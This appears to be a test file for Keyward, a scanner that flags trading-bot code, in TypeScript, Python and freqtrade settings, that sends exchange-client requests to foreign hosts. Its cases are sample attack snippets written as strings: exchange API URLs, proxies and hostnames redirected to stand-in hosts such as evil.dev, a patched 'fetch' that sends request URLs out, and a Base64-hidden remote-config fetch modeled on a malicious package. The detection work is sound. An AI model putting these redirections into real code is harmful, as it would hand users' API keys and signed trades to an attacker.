import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { eyesOf } from '../../../src/app/eyes.ts';
import { addressUses, settingsUses } from '../../../src/posture/packages/code/address-uses.ts';
import { hostKind } from '../../../src/posture/packages/code/hosts.ts';
import { parsePython } from '../../../src/posture/packages/code/python-parser.ts';
import { parseScript, parseSettings } from '../../../src/posture/packages/code/script-parser.ts';

/** `what host/kind …` of each use; `open` where only a run shows it. */
const told = (uses: ReturnType<typeof addressUses>): string[] =>
  uses.map(({ what, hosts, isOpen }) =>
    [what, ...hosts.map(({ host, kind }) => `${host}/${kind}`), ...(isOpen ? ['open'] : [])].join(' '),
  );

const inScript = (text: string, file = 'bot.ts') => told(addressUses(parseScript(file, text)));

describe('a script', () => {
  it.each([
    [
      'options of ccxt',
      "import ccxt from 'ccxt'; new ccxt.binance({ urls: { api: { public: 'https://evil.example.net' } } });",
      ['urls evil.example.net/foreign'],
    ],
    [
      'a class by its name alone',
      "import { binance } from 'ccxt'; const o = { hostname: 'evil.dev' }; new binance(o);",
      ['hostname evil.dev/foreign'],
    ],
    [
      'a class that is chosen in a run',
      "const ccxt = require('ccxt'); const C = ccxt[process.argv[2]]; const x = new C({}); x.urls['api'] = 'https://evil.dev/';",
      ['urls evil.dev/foreign'],
    ],
    [
      'an address in a name',
      "import ccxt from 'ccxt'; const HOST = 'evil.dev'; const x: any = new ccxt.okx(); x.urls.api.rest = `https://$\u007bHOST}/v5`;",
      ['urls evil.dev/foreign'],
    ],
    [
      'an address of two parts',
      "import ccxt from 'ccxt'; const x = new ccxt.okx(); (x as any).urls.api = 'https://' + 'evil' + '.dev';",
      ['urls evil.dev/foreign'],
    ],
    [
      'an address in Base64',
      `import ccxt from 'ccxt'; const x = new ccxt.okx(); x.urls.api = atob('${Buffer.from('https://evil.dev/api').toString('base64')}');`,
      ['urls evil.dev/foreign'],
    ],
    [
      'a name before the host',
      "import ccxt from 'ccxt'; new ccxt.okx({ urls: { api: 'https://www.okx.com@evil.dev' } });",
      ['urls evil.dev/foreign'],
    ],
    [
      'a subdomain that is made',
      "import ccxt from 'ccxt'; new ccxt.okx({ urls: { api: `https://$\u007br}.evil.dev` } });",
      ['urls x.evil.dev/foreign'],
    ],
    [
      'a class that signs otherwise',
      "import ccxt from 'ccxt'; class X extends ccxt.mexc { sign(p) { const r = super.sign(p); r.url = r.url.replace('api.mexc.com', 'evil.dev'); return r; } }",
      ['sign api.mexc.com/exchange evil.dev/foreign'],
    ],
    [
      'a method that is put in place',
      "import ccxt from 'ccxt'; ccxt.mexc.prototype.fetch = async (u) => { await fetch('https://evil.dev/?' + u); };",
      ['fetch evil.dev/foreign'],
    ],
    [
      'fields that are merged in',
      "import ccxt from 'ccxt'; const x = new ccxt.okx(); Object.assign(x.urls, { api: 'https://evil.dev' });",
      ['urls evil.dev/foreign'],
    ],
    [
      'an SDK with another base',
      "import { MainClient } from 'binance'; new MainClient({ baseUrl: 'https://evil.dev' });",
      ['baseUrl evil.dev/foreign'],
    ],
    [
      'an SDK with options inside',
      "import { Spot } from '@binance/spot'; new Spot({ configurationRestAPI: { basePath: 'https://evil.dev' } });",
      ['basePath evil.dev/foreign'],
    ],
    [
      'a client in a field',
      "import ccxt from 'ccxt'; class B { constructor() { this.x = new ccxt.okx(); this.x.hostname = 'evil.dev'; } }",
      ['hostname evil.dev/foreign'],
    ],
    [
      'a proxy that sees the requests',
      "import ccxt from 'ccxt'; new ccxt.okx({ proxyUrl: 'https://evil.dev/' });",
      ['proxyUrl evil.dev/foreign'],
    ],
    [
      'an address that only a run shows',
      "import ccxt from 'ccxt'; new ccxt.okx({ urls: { api: process.env.URL } });",
      ['urls open'],
    ],
    [
      'Keyward',
      "import ccxt from 'ccxt'; new ccxt.okx({ urls: { api: 'http://127.0.0.1:8787/www.okx.com' } });",
      ['urls 127.0.0.1:8787/loopback'],
    ],
    [
      'a testnet',
      "import ccxt from 'ccxt'; new ccxt.binance({ urls: { api: 'https://testnet.binance.vision/api' } });",
      ['urls testnet.binance.vision/exchange'],
    ],
  ])('tells of %s', (_what, text, uses) => {
    expect(inScript(text)).toEqual(uses);
  });

  it.each([
    ['a comment', "import ccxt from 'ccxt'; // x.urls.api = 'https://evil.dev'\nnew ccxt.okx();"],
    ['a text', "import ccxt from 'ccxt'; console.log(\"x.urls.api = 'https://evil.dev'\"); new ccxt.okx();"],
    [
      'another client',
      "import ccxt from 'ccxt'; import axios from 'axios'; axios.create({ baseURL: 'https://hooks.example.com' });",
    ],
    [
      'the host of another thing',
      "import ccxt from 'ccxt'; const db = new Client({ host: 'db.example.com' }); location.hostname = 'x.example.com';",
    ],
    ['urls of another thing', "const page = { urls: [] }; page.urls = ['https://blog.example.com'];"],
    [
      'ccxt as it is',
      "import ccxt from 'ccxt'; const x = new ccxt.okx({ apiKey: K, enableRateLimit: true, options: { defaultType: 'swap' } }); x.setSandboxMode(true);",
    ],
  ])('tells nothing of %s', (_what, text) => {
    expect(inScript(text)).toEqual([]);
  });

  it('is parsed with types, decorators and markup', () => {
    const text =
      "import ccxt from 'ccxt';\nenum A { B }\nabstract class X<T extends object> { private y!: T; }\nconst x = <T,>(a: T): a is T => true;\nexport const v = new ccxt.okx({ hostname: 'evil.dev' } satisfies object)!;";
    expect(inScript(text)).toEqual(['hostname evil.dev/foreign']);
    expect(
      inScript(
        "import ccxt from 'ccxt'; export const A = () => <b>{new ccxt.okx({ hostname: 'evil.dev' }).id}</b>;",
        'a.tsx',
      ),
    ).toEqual(['hostname evil.dev/foreign']);
    expect(
      inScript("const ccxt = require('ccxt'); with (Math) {} new ccxt.okx({ hostname: 'evil.dev' });", 'a.js'),
    ).toEqual(['hostname evil.dev/foreign']);
  });

  it('is parsed or refused, whatever its text', () => {
    const piece = fc.constantFrom(
      'class A extends ccxt.x {',
      '}',
      '(',
      ')',
      'urls',
      '.api',
      '=',
      "'https://evil.dev'",
      '`$\u007b',
      '}`',
      'sign(){',
      'import ccxt from "ccxt";',
      'new ',
      '...',
      '=>',
      '<',
      'await ',
      '__proto__',
      '{',
      '[',
      ']',
      ',',
      ';',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        try {
          addressUses(parseScript('a.ts', pieces.join('')));
        } catch (error) {
          if (!(error instanceof SyntaxError)) throw error;
        }
      }),
      { numRuns: 300 },
    );
  });
});

describe('a script of Python', () => {
  async function inPython(...texts: readonly string[]): Promise<(string[] | string)[]> {
    const folder = mkdtempSync(join(tmpdir(), 'keyward-python-'));
    try {
      const files = texts.map((_text, at) => join(folder, `bot${at}.py`));
      for (const [at, file] of files.entries()) writeFileSync(file, texts[at] ?? '');
      const parsed = await parsePython(eyesOf({ nowMs: 0 }), files, () => 60_000);
      return files.map((file) => {
        const code = parsed.get(file);
        return code === undefined ? 'not parsed' : 'fault' in code ? code.fault : told(addressUses(code));
      });
    } finally {
      rmSync(folder, { recursive: true });
    }
  }

  const cases: readonly (readonly [string, string, readonly string[]])[] = [
    [
      'options of ccxt',
      "import ccxt\nx = ccxt.binance({'urls': {'api': {'public': 'https://evil.dev/api'}}})",
      ['urls evil.dev/foreign'],
    ],
    [
      'another name for the library',
      "import ccxt.async_support as cc\nx = cc.okx(config={'hostname': 'evil.dev'})",
      ['hostname evil.dev/foreign'],
    ],
    [
      'a class by its name in a text',
      "import ccxt\nC = getattr(ccxt, 'okx')\nx = C({'hostname': 'evil.dev'})",
      ['hostname evil.dev/foreign'],
    ],
    [
      'an assignment below urls',
      "import ccxt\nx = ccxt.okx()\nx.urls['api']['rest'] = f'https://{HOST}/v5'\nHOST = 'evil.dev'",
      ['urls evil.dev/foreign'],
    ],
    ['an update', "import ccxt\nx = ccxt.okx()\nx.urls.update({'api': 'https://evil.dev'})", ['urls evil.dev/foreign']],
    [
      'setattr',
      "import ccxt\nx = ccxt.okx()\ndef s(self, *a):\n    return {'url': 'https://evil.dev'}\nsetattr(x, 'sign', s)",
      ['sign evil.dev/foreign'],
    ],
    [
      'what ccxt-mexc-futures did',
      "import ccxt, base64, requests\nclass mexc(ccxt.mexc):\n    def describe(self):\n        return self.deep_extend(super().describe(), requests.get(base64.b64decode('aHR0cHM6Ly92My5leGFtcGxlLndvcmtlcnMuZGV2L2Rlc2NyaWJlLmpzb24=').decode()).json())",
      ['describe v3.example.workers.dev/foreign'],
    ],
    [
      'a class attribute of an SDK',
      "from binance.client import Client\nclass C(Client):\n    API_URL = 'https://evil.dev/api'",
      ['API_URL evil.dev/foreign'],
    ],
    [
      'a field of a client',
      "from pybit.unified_trading import HTTP\ns = HTTP(testnet=False)\ns.endpoint = 'https://evil.dev'",
      ['endpoint evil.dev/foreign'],
    ],
    [
      'Keyward',
      "import ccxt\nx = ccxt.okx()\nx.urls['api'] = {'rest': 'http://127.0.0.1:8787/www.okx.com'}",
      ['urls 127.0.0.1:8787/loopback'],
    ],
    [
      'nothing of a docstring or comment',
      'import ccxt\nclass X(ccxt.okx):\n    def sign(self, path):\n        """https://docs.example.org"""\n        # https://evil.dev\n        return super().sign(path)',
      ['sign'],
    ],
  ];

  it('tells of what sends a client elsewhere, by Python’s own parser', async () => {
    const found = await inPython(...cases.map(([, text]) => text));
    expect(Object.fromEntries(cases.map(([name], at) => [name, found[at]]))).toEqual(
      Object.fromEntries(cases.map(([name, , uses]) => [name, uses])),
    );
  });

  it('says which file it could not parse, and parses the others', async () => {
    const deep = `x = ${'('.repeat(5_000)}1${')'.repeat(5_000)}`;
    const [broken, nested, zero, good] = await inPython(
      'print "python 2"',
      deep,
      'a = "\u0000"',
      "import ccxt\nccxt.okx({'hostname': 'evil.dev'})",
    );
    expect(broken).toMatch(/line 1$/);
    expect(nested).toEqual(expect.any(String));
    expect(zero).toEqual(expect.any(String));
    expect(good).toEqual(['hostname evil.dev/foreign']);
  });

  it('runs nothing of what it parses', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'keyward-python-'));
    const file = join(folder, 'bot.py');
    for (const name of ['ast.py', 'json.py', 'sitecustomize.py', 'bot.py'])
      writeFileSync(join(folder, name), `open(${JSON.stringify(join(folder, 'ran'))}, 'w').close()\n`);
    const parsed = await parsePython(eyesOf({ nowMs: 0 }), [file], () => 60_000);
    expect(parsed.get(file)).not.toHaveProperty('fault');
    expect(await eyesOf({ nowMs: 0 }).look(join(folder, 'ran'))).toEqual({ fault: 'missing' });
    rmSync(folder, { recursive: true });
  });
});

it('settings of freqtrade are read with their comments', () => {
  const text =
    '{ // mine\n "exchange": { "key": "k", "ccxt_config": { "urls": { "api": { "public": "https://evil.dev" } }, }, "ccxt_async_config": {"hostname": "api.bybit.com"} }, "api_server": {"hostname": "x.example.com"} }';
  expect(told(settingsUses(parseSettings(text)))).toEqual(['urls evil.dev/foreign', 'hostname api.bybit.com/exchange']);
});

it.each([
  ['127.0.0.1:8787', 'loopback'],
  ['localhost', 'loopback'],
  ['[::1]:8787', 'loopback'],
  ['api.binance.com', 'exchange'],
  ['api.bytick.com', 'exchange'],
  ['API.KRAKEN.COM.', 'exchange'],
  ['api.binance.com.evil.dev', 'foreign'],
  ['binance.com.de', 'foreign'],
  ['apibinance.com', 'foreign'],
  ['v3.mexc.workers.dev', 'foreign'],
  ['10.0.0.5', 'near'],
  ['keyward:8787', 'near'],
  ['203.0.113.7', 'foreign'],
])('%s is told as %s', (host, kind) => {
  expect(hostKind(host).kind).toBe(kind);
});
